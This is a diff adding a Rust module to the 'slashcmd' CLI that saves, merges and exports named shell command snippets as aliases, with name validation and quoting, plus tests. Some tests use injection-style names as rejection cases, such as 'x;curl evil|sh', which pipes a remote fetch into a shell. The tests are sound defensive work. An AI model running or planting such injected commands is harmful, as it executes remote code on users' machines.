@@ -0,0 +1,282 @@
+//! Saved snippets: named commands that can be replayed without regenerating
+//!
+//! `slashcmd save --as <name>` stores the most recent generated command in
+//! `~/.config/slashcmd/snippets.json`; `slashcmd run <name>` replays it.
+//! `slashcmd snippets export --shell zsh` turns them into shell aliases
+//! (abbreviations in fish, which expand so the command is seen before it runs).
+//! Pro users can `push`/`pull` them to a team library on the edge service.
+
+use serde::{Deserialize, Serialize};
+use std::collections::BTreeMap;
+use std::fs;
+use std::path::PathBuf;
+
+use crate::config::config_dir;
+use crate::logs;
+
+/// A saved command and the query that produced it
+#[derive(Serialize, Deserialize, Debug, Clone, PartialEq)]
+pub struct Snippet {
+    pub command: String,
+    pub query: String,
+    pub created: u64,
+}
+
+/// All snippets by name (sorted, so listings and the file are stable)
+pub type Snippets = BTreeMap<String, Snippet>;
+
+/// Get the snippets file path
+pub fn snippets_file() -> PathBuf {
+    config_dir().join("snippets.json")
+}
+
+/// Load all snippets. A missing file means none.
+pub fn load() -> Result<Snippets, String> {
+    let path = snippets_file();
+    let content = match fs::read_to_string(&path) {
+        Ok(content) => content,
+        Err(e) if e.kind() == std::io::ErrorKind::NotFound => return Ok(Snippets::new()),
+        Err(e) => return Err(format!("Failed to read {}: {}", path.display(), e)),
+    };
+    serde_json::from_str(&content).map_err(|e| format!("Invalid snippets file {}: {}", path.display(), e))
+}
+
+/// Save all snippets
+pub fn store(snippets: &Snippets) -> Result<(), String> {
+    let path = snippets_file();
+    fs::create_dir_all(config_dir()).map_err(|e| format!("Failed to create config dir: {}", e))?;
+    let json = serde_json::to_string_pretty(snippets).map_err(|e| format!("Failed to encode snippets: {}", e))?;
+    fs::write(&path, json).map_err(|e| format!("Failed to write {}: {}", path.display(), e))
+}
+
+/// Names double as shell alias names, so keep them to letters, digits, `-` and `_`
+pub fn validate_name(name: &str) -> Result<(), String> {
+    let valid = !name.is_empty()
+        && !name.starts_with('-')
+        && name.chars().all(|c| c.is_ascii_alphanumeric() || c == '-' || c == '_');
+    if valid {
+        Ok(())
+    } else {
+        Err(format!(
+            "Invalid snippet name {:?}: use letters, digits, '-' and '_'",
+            name
+        ))
+    }
+}
+
+/// Save the most recent generated command under `name`, replacing any
+/// snippet with that name
+pub fn save_last(name: &str) -> Result<Snippet, String> {
+    validate_name(name)?;
+    let last = logs::recent_entries(1)
+        .into_iter()
+        .next()
+        .ok_or("No command to save yet. Generate one first.")?;
+
+    let snippet = Snippet {
+        command: last.command,
+        query: last.query,
+        created: logs::now(),
+    };
+    let mut snippets = load()?;
+    snippets.insert(name.to_string(), snippet.clone());
+    store(&snippets)?;
+    Ok(snippet)
+}
+
+/// Look up a snippet by name
+pub fn get(name: &str) -> Result<Snippet, String> {
+    load()?
+        .remove(name)
+        .ok_or_else(|| format!("No snippet named '{}'. See `slashcmd snippets list`.", name))
+}
+
+/// Delete a snippet by name
+pub fn delete(name: &str) -> Result<(), String> {
+    let mut snippets = load()?;
+    if snippets.remove(name).is_none() {
+        return Err(format!("No snippet named '{}'", name));
+    }
+    store(&snippets)
+}
+
+/// Result of merging one snippet set into another
+#[derive(Debug, Default)]
+pub struct Merge {
+    pub merged: Snippets,
+    /// Names that were new to the base set
+    pub added: Vec<String>,
+    /// Names present in both with different commands; the base version is kept
+    pub conflicts: Vec<String>,
+    /// Incoming names that aren't valid alias names; they are skipped
+    pub rejected: Vec<String>,
+}
+
+/// Merge `incoming` into `base`. Snippets are only ever added, never
+/// silently overwritten: a name whose command differs is a conflict.
+/// Names from elsewhere end up in exported alias files, so invalid ones
+/// are rejected.
+pub fn merge(base: &Snippets, incoming: &Snippets) -> Merge {
+    let mut result = Merge {
+        merged: base.clone(),
+        ..Default::default()
+    };
+    for (name, snippet) in incoming {
+        if validate_name(name).is_err() {
+            result.rejected.push(name.clone());
+            continue;
+        }
+        match base.get(name) {
+            None => {
+                result.merged.insert(name.clone(), snippet.clone());
+                result.added.push(name.clone());
+            }
+            Some(existing) if existing.command != snippet.command => {
+                result.conflicts.push(name.clone());
+            }
+            Some(_) => {}
+        }
+    }
+    result
+}
+
+/// Shells snippets can be exported to
+#[derive(Debug, Clone, Copy, PartialEq)]
+pub enum Shell {
+    Bash,
+    Zsh,
+    Fish,
+}
+
+impl std::str::FromStr for Shell {
+    type Err = String;
+
+    fn from_str(s: &str) -> Result<Self, Self::Err> {
+        match s.to_lowercase().as_str() {
+            "bash" => Ok(Shell::Bash),
+            "zsh" => Ok(Shell::Zsh),
+            "fish" => Ok(Shell::Fish),
+            _ => Err(format!("Unknown shell '{}': expected bash, zsh or fish", s)),
+        }
+    }
+}
+
+/// Alias (fish: abbreviation) definitions for every snippet, ready to be
+/// sourced from the shell's rc file. Names are written unquoted, so
+/// snippets with invalid names (hand-edited file) are left out with a warning.
+pub fn export(snippets: &Snippets, shell: Shell) -> String {
+    let mut out = String::from("# Generated by `slashcmd snippets export`\n");
+    for (name, snippet) in snippets {
+        if let Err(e) = validate_name(name) {
+            eprintln!("Skipping snippet: {}", e);
+            continue;
+        }
+        out.push_str(&format!("# {}\n", snippet.query.replace('\n', " ")));
+        let line = match shell {
+            Shell::Bash | Shell::Zsh => format!("alias {}={}", name, quote_posix(&snippet.command)),
+            Shell::Fish => format!("abbr --add -- {} {}", name, quote_fish(&snippet.command)),
+        };
+        out.push_str(&line);
+        out.push('\n');
+    }
+    out
+}
+
+/// Single-quote for sh/bash/zsh: `'` becomes `'\''`
+fn quote_posix(s: &str) -> String {
+    format!("'{}'", s.replace('\'', r"'\''"))
+}
+
+/// Single-quote for fish, where `\` and `'` are escaped inside quotes
+fn quote_fish(s: &str) -> String {
+    format!("'{}'", s.replace('\\', r"\\").replace('\'', r"\'"))
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn test_validate_name() {
+        assert!(validate_name("gc-docker").is_ok());
+        assert!(validate_name("big_files2").is_ok());
+        assert!(validate_name("").is_err());
+        assert!(validate_name("-rf").is_err());
+        assert!(validate_name("a b").is_err());
+        assert!(validate_name("x;rm").is_err());
+    }
+
+    fn snippet(command: &str) -> Snippet {
+        Snippet {
+            command: command.to_string(),
+            query: String::new(),
+            created: 0,
+        }
+    }
+
+    #[test]
+    fn test_merge_reports_conflicts() {
+        let base: Snippets = [("ls".to_string(), snippet("ls -la")), ("df".to_string(), snippet("df -h"))].into();
+        let incoming: Snippets = [
+            ("ls".to_string(), snippet("ls -la")),
+            ("df".to_string(), snippet("df -H")),
+            ("du".to_string(), snippet("du -sh *")),
+        ]
+        .into();
+
+        let result = merge(&base, &incoming);
+        assert_eq!(result.added, ["du"]);
+        assert_eq!(result.conflicts, ["df"]);
+        assert_eq!(result.merged["df"].command, "df -h");
+        assert_eq!(result.merged.len(), 3);
+    }
+
+    #[test]
+    fn test_merge_rejects_invalid_names() {
+        let incoming: Snippets = [
+            ("x;curl evil|sh".to_string(), snippet("true")),
+            ("ok".to_string(), snippet("ls")),
+        ]
+        .into();
+
+        let result = merge(&Snippets::new(), &incoming);
+        assert_eq!(result.rejected, ["x;curl evil|sh"]);
+        assert_eq!(result.added, ["ok"]);
+        assert!(!result.merged.contains_key("x;curl evil|sh"));
+    }
+
+    #[test]
+    fn test_export_quotes_commands() {
+        let mut snippets = Snippets::new();
+        snippets.insert(
+            "greet".to_string(),
+            Snippet {
+                command: r"echo 'hi' \n".to_string(),
+                query: "say hi".to_string(),
+                created: 0,
+            },
+        );
+
+        let zsh = export(&snippets, Shell::Zsh);
+        assert!(zsh.contains("# say hi\n"));
+        assert!(zsh.contains(r"alias greet='echo '\''hi'\'' \n'"));
+
+        let fish = export(&snippets, Shell::Fish);
+        assert!(fish.contains(r"abbr --add -- greet 'echo \'hi\' \\n'"));
+    }
+
+    #[test]
+    fn test_export_skips_invalid_names() {
+        let snippets: Snippets = [
+            ("x;curl evil|sh".to_string(), snippet("true")),
+            ("ok".to_string(), snippet("ls")),
+        ]
+        .into();
+
+        for shell in [Shell::Bash, Shell::Zsh, Shell::Fish] {
+            let out = export(&snippets, shell);
+            assert!(!out.contains("evil"));
+            assert!(out.contains("'ls'"));
+        }
+    }
+}